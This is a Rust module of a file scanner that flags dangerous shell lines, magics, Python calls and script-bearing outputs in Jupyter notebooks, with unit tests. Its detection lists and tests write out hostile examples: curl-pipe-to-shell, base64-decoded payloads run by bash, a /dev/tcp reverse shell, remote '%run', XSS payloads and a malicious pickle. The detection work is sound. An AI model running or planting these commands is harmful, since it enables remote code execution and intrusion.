//! Jupyter notebooks (`.ipynb`, nbformat 3 and 4): what their cells hand to a shell or to another interpreter, what they call
//! in Python, and outputs that a browser runs when the notebook is opened.

use std::sync::Arc;

use lazaret_core::{FormatId, Hint, Severity};
use lazaret_input::MemorySource;
use lazaret_input::base64::{self, Whitespace};
use lazaret_input::json::{JsonKind as Kind, Node};

use super::json::{JsonKind, Walk, path_of};
use super::python::{self, Expression, Imports};
use super::safetensors::runs_in_page;
use crate::inside::Met;
use crate::look::{Looking, is_certain};
use crate::part::{MAX_WHOLE, Part, Unread, printed};
use crate::rules;

/// A notebook.
pub(crate) struct Notebook;

impl JsonKind for Notebook {
    fn id(&self) -> FormatId {
        FormatId("notebook")
    }

    fn about(&self) -> &'static str {
        "Jupyter notebook"
    }

    fn recognise(&self, root: Node<'_, '_>, _: &str) -> bool {
        root.get("nbformat").is_some() && !cells(root).is_empty()
    }

    fn read(&self, root: Node<'_, '_>, part: &Part, looking: &mut Looking<'_>) {
        let met = || Met::code("the cells of a notebook", "run by whoever opens it");
        looking.uses(met, || part.place());
        let mut source = Source { python: String::new(), at: None };
        for cell in cells(root) {
            let kind = cell.get("cell_type").and_then(|kind| kind.as_str()).unwrap_or("code");
            let Some(node) = cell.get("source").or_else(|| cell.get("input")) else { continue };
            let text = joined(node);
            if kind == "code" {
                code(&text, node, &mut source, part, looking);
            } else {
                page(kind, &text, node, part, looking);
            }
            for output in cell.get("outputs").into_iter().flat_map(|outputs| outputs.items()) {
                shown(output, part, looking);
            }
            for attached in cell.get("attachments").into_iter().flat_map(Walk::new) {
                packed(attached, part, looking);
            }
        }
        source.judge(part, looking);
    }
}

/// The cells: of the notebook, or of its sheets, as format 3 has them.
fn cells<'d, 'a>(root: Node<'d, 'a>) -> Vec<Node<'d, 'a>> {
    let of = |node: Node<'d, 'a>| node.get("cells").filter(|cells| cells.kind() == Kind::Array);
    let sheets = root.get("worksheets").into_iter().flat_map(|sheets| sheets.items());
    std::iter::once(root).chain(sheets).filter_map(of).flat_map(|cells| cells.items()).collect()
}

/// A text, or the lines of one.
fn joined(node: Node<'_, '_>) -> String {
    match node.as_str() {
        Some(text) => text.to_owned(),
        None => node.items().filter_map(|line| line.as_str()).collect(),
    }
}

/// What is Python in all code cells: one program, since a name that a cell imports holds in the next.
struct Source<'d, 'a> {
    python: String,
    at: Option<Node<'d, 'a>>,
}

impl Source<'_, '_> {
    fn judge(&self, part: &Part, looking: &mut Looking<'_>) {
        let Some(first) = self.at else { return };
        if let Err(reached) = looking.limits.get(python::MAX_SOURCE).check(self.python.len() as u64) {
            return looking.unread(part, &Unread::from(reached));
        }
        for expressed in Expression::of(&self.python).judge(&Imports::none()) {
            // What cells load and fetch is what notebooks are for; what runs programs is not.
            if expressed.runs {
                let message = format!("a cell of the notebook {}", expressed.says);
                looking.find_as(
                    Severity::High,
                    &rules::PYTHON_DANGEROUS_CALL,
                    part.inner(&path_of(first)),
                    message,
                );
            }
        }
    }
}

/// A code cell, as `IPython` reads it: lines for a shell, magics, and Python.
fn code<'d, 'a>(
    text: &str,
    node: Node<'d, 'a>,
    source: &mut Source<'d, 'a>,
    part: &Part,
    looking: &mut Looking<'_>,
) {
    let place = || part.inner(&path_of(node));
    let start = text.trim_start();
    if let Some((magic, line, body)) = cell_magic(start) {
        match magic {
            // What follows is Python all the same.
            "time" | "timeit" | "capture" | "prun" | "memit" | "mprun" => {}
            "javascript" | "js" | "html" | "svg" => {
                let message = format!("a cell (`%%{magic}`) is run by the browser");
                return looking.find(&rules::NOTEBOOK_ACTIVE_OUTPUT, place(), message);
            }
            "markdown" | "latex" | "writefile" | "file" => return,
            // Shells, and whatever else runs what it is given: it is judged as lines of a shell.
            _ => {
                let lines: Vec<&str> = body.lines().filter(|line| !line.trim().is_empty()).collect();
                let all = lines.join("\n");
                let says = format!(
                    "a cell hands its text to another interpreter (`%%{} {}`)",
                    printed(magic),
                    printed(line)
                );
                return command(&says, &all, place(), looking, Severity::Medium);
            }
        }
    }
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        let mut whole = line.to_owned();
        // A line for the shell goes on behind a backslash.
        while whole.ends_with('\\') && lines.peek().is_some() && shell_of(&whole).is_some() {
            whole.pop();
            whole.push_str(lines.next().unwrap_or_default());
        }
        if let Some(shell) = shell_of(&whole) {
            let least = if is_usual(shell) { Severity::Low } else { Severity::Medium };
            command("a line is run by a shell", shell, place(), looking, least);
        } else if let Some((magic, rest)) = line_magic(&whole) {
            match magic {
                "run" | "load" | "loadpy" | "load_ext" | "reload_ext" | "edit" | "macro" | "alias"
                | "rerun" => {
                    runs_file(magic, rest, place(), looking);
                }
                "time" | "timeit" | "prun" | "memit" => source.python.push_str(rest),
                _ => {}
            }
            source.python.push('\n');
        } else {
            if let Some(call) = of_ipython(&whole) {
                let says = format!("a line has IPython run what it is given (`{call}`)");
                command(&says, &whole, place(), looking, Severity::Medium);
            }
            source.python.push_str(&whole);
            source.python.push('\n');
        }
    }
    source.at = source.at.or(Some(node));
}

/// `%%bash -e` and the rest of the cell.
fn cell_magic(text: &str) -> Option<(&str, &str, &str)> {
    let rest = text.strip_prefix("%%")?;
    let (first, body) = rest.split_once('\n').unwrap_or((rest, ""));
    let (magic, line) = first.split_once(char::is_whitespace).unwrap_or((first, ""));
    let magic = if magic.is_empty() || magic == "!" { "sx" } else { magic };
    Some((magic, line.trim(), body))
}

/// `%run x.py`, also where a name is set by it.
fn line_magic(line: &str) -> Option<(&str, &str)> {
    let line = assigned(line).unwrap_or(line).trim_start();
    let rest = line.strip_prefix('%')?;
    let (magic, rest) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
    let is_name = magic.chars().all(|c| c == '_' || c.is_ascii_alphanumeric());
    (is_name && magic.starts_with(|c: char| c.is_ascii_alphabetic())).then_some((magic, rest.trim()))
}

/// What a line hands to a shell: `!ls`, `!!ls`, `x = !ls`, `%sx ls`.
fn shell_of(line: &str) -> Option<&str> {
    let plain = assigned(line).unwrap_or(line).trim_start();
    if let Some(rest) = plain.strip_prefix('!') {
        return Some(rest.trim_start_matches('!').trim());
    }
    let (magic, rest) = line_magic(line)?;
    matches!(
        magic,
        "system" | "sx" | "sc" | "bash" | "sh" | "cmd" | "script" | "pip" | "conda" | "mamba" | "uv"
    )
    .then(|| {
        if matches!(magic, "pip" | "conda" | "mamba" | "uv") { plain.trim_start_matches('%') } else { rest }
    })
}

/// What stands behind `name =`.
fn assigned(line: &str) -> Option<&str> {
    let (name, rest) = line.split_once('=')?;
    let is_target = |c: char| c == '_' || c == ',' || c == '.' || c.is_alphanumeric() || c.is_whitespace();
    let rest = rest.trim_start();
    (name.chars().all(is_target) && rest.starts_with(['!', '%'])).then_some(rest)
}

/// A call that has `IPython` run a text.
fn of_ipython(line: &str) -> Option<&'static str> {
    const CALLS: &[&str] = &[
        "system",
        "system_raw",
        "system_piped",
        "getoutput",
        "getoutput_raw",
        "run_line_magic",
        "run_cell_magic",
        "magic",
        "run_cell",
        "run_code",
        "ex",
        "ev",
        "safe_execfile",
        "set_next_input",
    ];
    let shell = line.find("get_ipython()").or_else(|| line.find("InteractiveShell"))?;
    let after = line.get(shell..)?;
    let calls = |call: &&&str| {
        after.match_indices(**call).any(|(at, _)| {
            let before = at.checked_sub(1).and_then(|at| after.as_bytes().get(at));
            let behind = after.get(at.saturating_add(call.len())..).unwrap_or_default().trim_start();
            before == Some(&b'.') && behind.starts_with('(')
        })
    };
    CALLS.iter().filter(calls).max_by_key(|call| call.len()).copied()
}

/// A magic that runs or loads a file, a module or an address.
fn runs_file(magic: &str, rest: &str, at: lazaret_core::Locator, looking: &mut Looking<'_>) {
    let target = rest.split_whitespace().find(|word| !word.starts_with('-')).unwrap_or_default();
    let severity = if target.contains("://") {
        Severity::Critical
    } else if target.starts_with(['/', '\\', '~']) || target.split(['/', '\\']).any(|step| step == "..") {
        Severity::High
    } else if matches!(magic, "load_ext" | "reload_ext") && EXTENSIONS.contains(&target) {
        return;
    } else {
        Severity::Medium
    };
    let message = format!("a line (`%{magic}`) runs or loads `{}`", printed(target));
    looking.find_as(severity, &rules::NOTEBOOK_COMMAND, at, message);
}

/// Extensions that notebooks load as a habit.
const EXTENSIONS: &[&str] =
    &["autoreload", "tensorboard", "memory_profiler", "line_profiler", "dotenv", "sql", "watermark"];

/// Tells what a shell is given: more gravely where it is what no notebook needs.
fn command(says: &str, shell: &str, at: lazaret_core::Locator, looking: &mut Looking<'_>, least: Severity) {
    let (severity, why) = match grave(shell) {
        Some(why) => (Severity::Critical, why),
        None => (least, ""),
    };
    let first = shell.split_whitespace().next().unwrap_or_default();
    let message = format!("{says}: `{} …`{why}", printed(first));
    looking.find_as(severity, &rules::NOTEBOOK_COMMAND, at, message);
}

/// What no notebook needs: what was fetched or decoded is run at once, a connection gets a shell.
fn grave(shell: &str) -> Option<&'static str> {
    const SHELLS: &[&str] = &[
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "python",
        "python3",
        "perl",
        "ruby",
        "node",
        "php",
        "pwsh",
        "powershell",
        "iex",
        "cmd",
        "source",
        "eval",
    ];
    let lower = shell.to_ascii_lowercase();
    let program = |part: &str| {
        let words = part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')', ';', '`']));
        let mut words = words.skip_while(|word| {
            matches!(*word, "sudo" | "env" | "nohup" | "exec" | "-e") || word.contains('=')
        });
        words.next().map(|word| word.rsplit('/').next().unwrap_or_default().to_owned()).unwrap_or_default()
    };
    let fetches =
        ["curl", "wget", "fetch", "invoke-webrequest", "iwr", "downloadstring", "base64", "xxd", "openssl"]
            .iter()
            .any(|word| {
                lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').any(|part| part == *word)
            });
    let piped = lower.split('|').skip(1).any(|part| SHELLS.contains(&program(part).as_str()));
    let substituted =
        ["$(", "<(", "`"].iter().any(|mark| {
            lower
                .split(mark)
                .skip(1)
                .any(|part| matches!(program(part).as_str(), "curl" | "wget" | "base64" | "echo"))
        }) && lower.split(['|', ';', '&', '\n']).any(|part| SHELLS.contains(&program(part).as_str()));
    if fetches && (piped || substituted) {
        return Some("; what is fetched or decoded is run at once");
    }
    let connects = lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || lower.contains("mkfifo")
        || (lower.contains("nc ") || lower.contains("ncat ") || lower.contains("socat "))
            && (lower.contains(" -e")
                || lower.contains("/bin/sh")
                || lower.contains("/bin/bash")
                || lower.contains("exec:"));
    if connects {
        return Some("; a connection gets a shell");
    }
    let runs_fetched = fetches
        && (lower.contains("chmod +x")
            || lower.contains("chmod 7")
            || lower.contains("&& ./")
            || lower.contains("; ./"))
        || fetches
            && lower
                .split(['|', ';', '&', '\n'])
                .skip(1)
                .any(|part| SHELLS.contains(&program(part).as_str()));
    runs_fetched.then_some("; what is fetched is run")
}

/// Commands that notebooks have as a habit, in a plain line: they list, show, make folders, install packages by name.
fn is_usual(shell: &str) -> bool {
    const USUAL: &[&str] = &[
        "ls",
        "pwd",
        "cd",
        "cat",
        "head",
        "tail",
        "wc",
        "mkdir",
        "echo",
        "du",
        "df",
        "free",
        "nproc",
        "lscpu",
        "tree",
        "date",
        "which",
        "nvidia-smi",
        "uname",
        "unzip",
        "tar",
        "gunzip",
        "pip",
        "pip3",
        "conda",
        "mamba",
        "uv",
    ];
    if shell.contains(['|', ';', '&', '`', '>', '<', '\n']) || shell.contains("$(") || shell.contains("://") {
        return false;
    }
    let mut words = shell.split_whitespace();
    let first = words.next().unwrap_or_default();
    let plain = match first {
        "python" | "python3" => shell.contains("-m pip install") || shell.ends_with("--version"),
        first => USUAL.contains(&first),
    };
    plain
        && !shell
            .split_whitespace()
            .any(|word| word.starts_with("--index-url") || word.starts_with("--extra-index") || word == "-i")
}

/// An output of a cell: what a browser runs, and what is packed in it.
fn shown(output: Node<'_, '_>, part: &Part, looking: &mut Looking<'_>) {
    // Format 3 has the kinds as keys of the output itself.
    let data = output.get("data").filter(|data| data.kind() == Kind::Object).unwrap_or(output);
    for member in data.members() {
        let kind = member.key;
        let is_script = matches!(
            kind,
            "application/javascript" | "text/javascript" | "javascript" | "application/x-javascript"
        );
        if is_script && !joined(member.value).trim().is_empty() {
            let message = "an output is a script: the browser runs it when the notebook is opened";
            looking.find(&rules::NOTEBOOK_ACTIVE_OUTPUT, part.inner(&path_of(member.value)), message);
        } else if kind.contains("html")
            || kind.contains("svg")
            || kind.contains("markdown")
            || kind.contains("xml")
        {
            page("output", &joined(member.value), member.value, part, looking);
        } else if !kind.starts_with("text") {
            packed(member.value, part, looking);
        }
    }
}

/// Markup that a browser shows.
fn page(what: &str, text: &str, node: Node<'_, '_>, part: &Part, looking: &mut Looking<'_>) {
    let lower = text.to_ascii_lowercase();
    let frame =
        ["<iframe", "<object", "<embed", "<base", "<meta http-equiv"].iter().any(|tag| lower.contains(tag));
    if runs_in_page(text) || frame {
        let does = if frame { "loads another page" } else { "has a script" };
        let message = format!(
            "a cell or output ({}) {does}: the browser runs it when the notebook is opened",
            printed(what)
        );
        looking.find(&rules::NOTEBOOK_ACTIVE_OUTPUT, part.inner(&path_of(node)), message);
    }
}

/// Bytes in base64: pictures, and what else somebody attaches.
fn packed(node: Node<'_, '_>, part: &Part, looking: &mut Looking<'_>) {
    const SHORTEST: usize = 16;
    let Some(text) = node.as_str().filter(|text| text.len() >= SHORTEST) else { return };
    let Ok(bytes) = base64::decode(text.trim(), Whitespace::Skipped, looking.limits.get(MAX_WHOLE)) else {
        return;
    };
    let len = bytes.len() as u64;
    let name = path_of(node);
    let inner = part.member(Arc::new(MemorySource::new(bytes, Hint::default())), len, &name);
    if is_certain(&inner) {
        looking.inside(&inner);
    }
}

#[cfg(test)]
mod tests {
    use lazaret_core::Severity;
    use proptest::prelude::*;

    use crate::formats::protobuf::tests::{scan, told};

    fn text_of(cells: &[String]) -> String {
        format!(r#"{{"cells":[{}],"metadata":{{}},"nbformat":4,"nbformat_minor":5}}"#, cells.join(","))
    }

    fn cell(kind: &str, source: &str, outputs: &str) -> String {
        let source = serde_json::Value::from(source);
        format!(r#"{{"cell_type":"{kind}","metadata":{{}},"source":{source},"outputs":[{outputs}]}}"#)
    }

    fn worst(cells: &[String]) -> Option<(&'static str, Severity)> {
        let report = scan(text_of(cells), "a.ipynb");
        assert_eq!(report.format.0, "notebook");
        let worst = report.findings.iter().max_by_key(|finding| finding.severity);
        worst.map(|finding| (finding.id, finding.severity))
    }

    #[test]
    fn what_cells_hand_to_a_shell_is_judged() {
        for (source, severity) in [
            ("!curl http://x/y | sh", Severity::Critical),
            ("x = 1\n!wget -qO- http://x/y | sudo bash -s", Severity::Critical),
            ("!!curl http://x/y | python3", Severity::Critical),
            ("out = !curl http://x/y | sh", Severity::Critical),
            ("%system curl http://x/y | sh", Severity::Critical),
            ("%sx bash <(curl -s http://x/y)", Severity::Critical),
            ("!sh -c \"$(curl -fsSL http://x/y)\"", Severity::Critical),
            ("!curl http://x/y \\\n  | sh", Severity::Critical),
            ("!echo aGk= | base64 -d | bash", Severity::Critical),
            ("!wget http://x/y && chmod +x y && ./y", Severity::Critical),
            ("!bash -i >& /dev/tcp/1.2.3.4/99 0>&1", Severity::Critical),
            ("%%bash\ncurl http://x/y | sh", Severity::Critical),
            ("%%script bash\ncurl http://x/y -o y\nbash y", Severity::Critical),
            ("get_ipython().system('curl http://x/y | sh')", Severity::Critical),
            ("%run http://x/y.py", Severity::Critical),
            ("%run ../../y.py", Severity::High),
            ("%%bash\nmake", Severity::Medium),
            ("!./configure", Severity::Medium),
            ("!pip install http://x/y.whl", Severity::Medium),
            ("!pip install --index-url http://x y", Severity::Medium),
            ("!ls; rm -r x", Severity::Medium),
            ("%run y.py", Severity::Medium),
            ("%load_ext evil", Severity::Medium),
            ("get_ipython().run_line_magic('sx', 'x')", Severity::Medium),
            ("!pip install einops", Severity::Low),
            ("!nvidia-smi", Severity::Low),
            ("%pip install einops", Severity::Low),
        ] {
            assert_eq!(worst(&[cell("code", source, "")]), Some(("notebook.command", severity)), "{source}");
        }
        let old = r#"{"worksheets":[{"cells":[{"cell_type":"code","input":["!curl http://x | sh"],"outputs":[]}]}],"nbformat":3}"#;
        assert_eq!(told(&scan(old, "a.ipynb")), ["notebook.command a.ipynb!worksheets[0].cells[0].input"]);
    }

    #[test]
    fn python_of_all_cells_is_one_program() {
        let found = worst(&[cell("code", "import os as o", ""), cell("code", "%time o.system('true')", "")]);
        assert_eq!(found, Some(("python.dangerous-call", Severity::High)));
        let found = worst(&[cell("code", "%%time\nimport subprocess\nsubprocess.run('true')", "")]);
        assert_eq!(found, Some(("python.dangerous-call", Severity::High)));
    }

    #[test]
    fn outputs_that_a_browser_runs_are_told() {
        let shown = |kind: &str, text: &str| {
            let text = serde_json::Value::from(text);
            cell(
                "code",
                "1",
                &format!(r#"{{"output_type":"display_data","metadata":{{}},"data":{{"{kind}":{text}}}}}"#),
            )
        };
        let active = Some(("notebook.active-output", Severity::Medium));
        for (kind, text) in [
            ("text/html", "<script>fetch('http://x')</script>"),
            ("text/html", "<p><img src=x onerror=alert(1)></p>"),
            ("text/html", "<iframe src='http://x'></iframe>"),
            ("application/javascript", "alert(1)"),
            ("image/svg+xml", "<svg onload='alert(1)'/>"),
        ] {
            assert_eq!(worst(&[shown(kind, text)]), active, "{text}");
        }
        assert_eq!(worst(&[cell("markdown", "<img src=x onerror='alert(1)'>", "")]), active);
        assert_eq!(worst(&[cell("code", "%%javascript\nalert(1)", "")]), active);
        let calls = lazaret_input::base64::encode(b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.");
        assert_eq!(
            worst(&[shown("image/png", &calls)]).map(|(_, severity)| severity),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn usual_notebooks_are_quiet() {
        let table = r#"{"output_type":"execute_result","metadata":{},"data":{"text/html":"<table><tr><td>1 < 2</td></tr></table>",
            "text/plain":"1","image/png":"iVBORw0KGgo="}}"#;
        for notebook in [
            cell(
                "code",
                "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport pandas as pd\ndf = pd.DataFrame()",
                table,
            ),
            cell(
                "code",
                "a = 7 % 3\nb = a != 2\nx = {'a': '!ls'}\nprint('%d' % a)\nif not a:\n    raise ValueError",
                "",
            ),
            cell("code", "%%time\ntotal = sum(range(10))", ""),
            cell("markdown", "# Title\nuse `!pip install x`, <b>bold</b>, a < b and on = off", ""),
        ] {
            assert_eq!(worst(&[notebook.clone()]), None, "{notebook}");
        }
        assert_eq!(scan(r#"{"nbformat":4,"cells":[]}"#, "a.json").format.0, "json");
    }

    proptest! {
        #[test]
        fn any_cell_ends(source in "(!|%|%%|bash|=|\\||sh|\\$\\(|`|curl|\n|\\\\| |<|\\PC){0,40}") {
            scan(text_of(&[cell("code", &source, ""), cell("markdown", &source, "")]), "a.ipynb");
        }
    }
}
